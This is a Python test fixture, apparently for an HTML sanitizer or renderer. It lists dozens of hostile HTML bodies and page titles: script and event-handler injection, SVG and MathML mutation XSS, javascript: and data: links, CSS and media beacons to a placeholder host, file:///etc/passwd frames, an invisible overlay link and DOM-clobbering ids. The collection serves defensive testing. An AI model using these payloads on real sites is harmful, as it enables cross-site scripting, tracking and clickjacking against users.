"""Bodies that mean harm, each by another way; ``{bird}`` is a host that must never hear of them."""

BODIES: dict[str, str] = {
    "script": "<p>seen</p><script src='{bird}/script1'></script><script>new Image().src="
    "'{bird}/script2'</script>",
    "script that is nested": "<scr<script>ipt>new Image().src='{bird}/script3'</scr</script>ipt>",
    "handler": "<p onclick=\"location='{bird}/handler'\" onmouseover='x()'>seen</p>",
    "handler of a picture": "<img src='x' onerror=\"this.src='{bird}/onerror1'\">",
    "handler behind a slash": "<img/onerror=\"this.src='{bird}/onerror2'\"/src='x'>",
    "handler of svg": "<svg onload=\"new Image().src='{bird}/svgload'\"><text>seen</text></svg>",
    "script in svg": "<svg><script href='{bird}/svgscript'></script><a xlink:href="
    "'javascript:alert(1)'><text>seen</text></a></svg>",
    "picture in svg": "<svg><image href='{bird}/svgimage' xlink:href='{bird}/svgimage2'/></svg>",
    "use in svg": "<svg><use href='{bird}/svguse#x'/></svg>",
    "foreign object": "<svg><foreignObject><iframe src='{bird}/foreign'></iframe>"
    "</foreignObject></svg>",
    "animated link in svg": "<svg><a><animate attributeName=href values='javascript:alert(1)'/>"
    "<text>seen</text></a></svg>",
    "math": "<math href='javascript:alert(1)'><mtext><table><mglyph><style><img src='{bird}/math' "
    "onerror=alert(1)></style></mglyph></table></mtext></math><p>after</p>",
    "mutation by noscript": "<noscript><p title=\"</noscript><img src='{bird}/mutant'>\">"
    "</noscript>",
    "mutation by a form": '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="'
    "</style><img src='{bird}/mutant2' onerror=alert(1)>\">",
    "style element": "<style>@import url('{bird}/import1'); p {{ background: url({bird}/css1) }}"
    "</style><p>seen</p>",
    "style attribute": "<p style=\"background: url('{bird}/css2'); position: fixed; inset: 0\">"
    "seen</p>",
    "escaped style": "<p style='background:\\75\\72\\6c({bird}/css3)'>seen</p>",
    "font": "<style>@font-face {{ font-family: x; src: url({bird}/font) }} p {{ font-family: x }}"
    "</style><p style='font-family:x'>seen</p>",
    "old attributes": "<table background='{bird}/background1'><tr><td background="
    "'{bird}/background2'>seen</td></tr></table>",
    "old attributes of the body": "<body background='{bird}/background3'>seen</body>",
    "meta refresh": "<meta http-equiv='refresh' content='0;url={bird}/refresh1'><p>seen</p>",
    "base": "<base href='{bird}/base/'><img src='based.png'><a href='based'>seen</a>",
    "prefetch": "<link rel='prefetch' href='{bird}/prefetch1'><link rel='preload' as='image' "
    "href='{bird}/preload'><link rel='modulepreload' href='{bird}/module'><link rel='manifest' "
    "href='{bird}/manifest'><link rel='dns-prefetch' href='{bird}'>",
    "style sheet": "<link rel='stylesheet' href='{bird}/sheet'><p>seen</p>",
    "form": "<form id='f' action='{bird}/form' method='post'><input name='q' value='1'>"
    "<button id='b'>seen</button><input type='image' src='{bird}/button'></form>",
    "form around": "<button form='f' formaction='{bird}/formaction'>seen</button><isindex "
    "action='{bird}/isindex'>",
    "frame": "<iframe src='{bird}/frame1'>seen</iframe><frameset><frame src='{bird}/frame2'>"
    "</frameset>",
    "frame with its document": "<iframe srcdoc=\"<img src='{bird}/srcdoc'>\"></iframe><p>seen</p>",
    "frame of a file": "<iframe src='file:///etc/passwd'></iframe><iframe src='desk://site/page/2'>"
    "</iframe>",
    "object and embed": "<object data='{bird}/object1'><embed src='{bird}/embed'>seen</object>"
    "<applet code='{bird}/applet'></applet>",
    "video": "<video src='{bird}/video' poster='{bird}/poster1' autoplay><source src="
    "'{bird}/source'><track default src='{bird}/track'>seen</video>",
    "audio": "<audio src='{bird}/audio' autoplay controls>seen</audio>",
    "picture": "<picture><source srcset='{bird}/srcset1'><img src='{bird}/img1' srcset="
    "'{bird}/srcset2 2x, {bird}/srcset3 3x' loading='eager'></picture>",
    "picture of data": "<img src='data:image/svg+xml,<svg onload=alert(1)/>'><p>seen</p>",
    "picture without a scheme": "<img src='//127.0.0.1/{bird}/img2'><img src='\\\\host\\share'>",
    "lazy picture": "<img data-src='{bird}/lazy' data-image-src='{bird}/img3' class='lazyload'>",
    "link of a script": "<a href='javascript:alert(1)'>seen</a><a href=' jAvA\tscript:alert(1)'>x"
    "</a><a href='&#106;avascript&colon;alert(1)'>y</a><a href='vbscript:x'>z</a>",
    "link of data": "<a href='data:text/html,<script>alert(1)</script>'>seen</a>",
    "link of a file": "<a href='file:///etc/passwd'>seen</a><a href='\\\\host\\share'>x</a>",
    "link of ours": "<a href='desk://site/command/sign_in'>seen</a><a href='desk://site/welcome/"
    "evil.example'>x</a><a href='DESK://site/load/x'>y</a><a href='desk:command/reload'>z</a>"
    "<a href='//site/command/online'>w</a>",
    "link that lies over all": "<a href='desk://site/welcome/evil.example' style='position:fixed;"
    "inset:0;z-index:9999;opacity:0' class='button ask copy'>seen</a>",
    "link with a ping": "<a href='{bird}/clicked' ping='{bird}/ping' target='_blank' download>"
    "seen</a>",
    "map": "<map name='m'><area href='javascript:alert(1)' ping='{bird}/area'></map><img "
    "usemap='#m' src='x'>",
    "borrowed looks": "<div class='notice warning placeholder' id='freshness'><p class='actions'>"
    "seen</p></div><h1 class='page-title' id='body'>Sign in again</h1>",
    "ids of ours": "<p id='body'>a</p><p id='body'>b</p><p id='notices'>c</p><img "
    "id='getElementById' name='getElementById' src='x'>",
    "comment that is none": "<!--><img src='{bird}/comment1'>--><!-- --!><img "
    "src='{bird}/comment2'><p>seen</p>",
    "cdata": "<![CDATA[<img src='{bird}/cdata'>]]><p>seen</p>",
    "plain text that never ends": "<p>seen</p><plaintext><img src='{bird}/plain'>",
    "text areas": "<textarea><img src='{bird}/area1'></textarea><xmp><img src='{bird}/xmp'></xmp>"
    "<select><option><img src='{bird}/option'></option></select>",
    "template": "<template><img src='{bird}/template'></template><p>seen</p>",
    "shadow": "<div><template shadowrootmode='open'><img src='{bird}/shadow'></template></div>",
    "marquee and friends": "<marquee onstart=alert(1)>seen</marquee><details open ontoggle="
    "alert(1)><summary>x</summary>y</details><dialog open>z</dialog><popover>p</popover>",
    "deep": "<div>" * 400 + "<img src='{bird}/deep'>" + "</div>" * 400,
    "entities": "<p>&#0;&#x110000;&bogus;&lt;script&gt;alert(1)&lt;/script&gt; seen</p>",
    "cut off": "<p>seen <img src='{bird}/cut' alt=\"",
    "processing": "<?xml-stylesheet href='{bird}/pi'?><!DOCTYPE x [<!ENTITY e SYSTEM "
    "'{bird}/entity'>]><p>&e; seen</p>",
}
"""HTML; most of it is none that storage format knows."""

TITLES = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    "</title><script>alert(1)</script>",
    "&lt;b&gt; &amp; <b>",
    "\u202egnp.exe",
    "{bird} %s {0} ${x}",
)
"""Names of pages, labels, people and files."""
